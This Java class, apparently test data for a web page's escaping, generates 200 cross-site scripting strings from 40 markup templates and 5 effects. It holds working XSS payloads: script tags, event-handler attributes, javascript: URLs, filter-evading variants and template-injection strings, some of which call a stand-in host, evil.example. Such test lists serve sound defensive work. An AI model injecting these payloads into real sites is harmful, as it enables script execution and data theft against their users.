package dev.parley.page;

import java.util.ArrayList;
import java.util.List;

/** Lists 200 texts that would run a script or load something if a page did not escape them. */
public final class InjectionTexts {

    private static final List<String> EFFECTS = List.of(
            "hit()",
            "alert(1)",
            "document.title='owned'",
            "fetch('http://evil.example/')",
            "location='http://evil.example/'");

    /** Markup in which {@code %s} stands for the effect. */
    private static final List<String> TEMPLATES = List.of(
            "<script>%s</script>",
            "<ScRiPt >%s</sCrIpT>",
            "<scr<script>ipt>%s</scr</script>ipt>",
            "<img src=x onerror=\"%s\">",
            "<img src='http://evil.example/x' onload=\"%s\">",
            "<svg onload=\"%s\">",
            "<svg><animate onbegin=\"%s\" attributeName=x dur=1s>",
            "<body onload=\"%s\">",
            "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
            "<iframe src=\"javascript:%s\"></iframe>",
            "<details open ontoggle=\"%s\">",
            "<input autofocus onfocus=\"%s\">",
            "<video><source onerror=\"%s\"></video>",
            "<math><mi xlink:href=\"javascript:%s\">x",
            "<a href=\"javascript:%s\">click</a>",
            "<a href=javascript:%s>click</a>",
            "[click](javascript:%s)",
            "javascript:%s",
            "JaVaScRiPt://x%%0a%s",
            "data:text/html,<script>%s</script>",
            "https://x.example/\"onmouseover=\"%s",
            "https://x.example/'onclick='%s",
            "`<script>%s</script>`",
            "```html\n<script>%s</script>\n```",
            "*<img src=x onerror=\"%s\">*",
            "_<img src=x onerror=\"%s\">_",
            "@<img src=x onerror=\"%s\">",
            "\"><script>%s</script>",
            "'><script>%s</script>",
            "</textarea><script>%s</script>",
            "</title><script>%s</script>",
            "</template><script>%s</script>",
            "<!--><script>%s</script>-->",
            "<![CDATA[<script>%s</script>]]>",
            "<link rel=stylesheet href=\"data:text/css,x\" onload=\"%s\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
            "<base href=\"http://evil.example/\"><script>%s</script>",
            "<object data=\"javascript:%s\">",
            "${%s} {{%s}} #{%s} [[${%s}]]",
            "<form action=\"javascript:%s\"><button autofocus>x</button></form>");

    private InjectionTexts() {}

    /** Returns the texts. */
    public static List<String> all() {
        List<String> texts = new ArrayList<>();
        TEMPLATES.forEach(way ->
                EFFECTS.forEach(effect -> texts.add(way.replace("%s", effect).replace("%%", "%"))));
        return texts;
    }
}
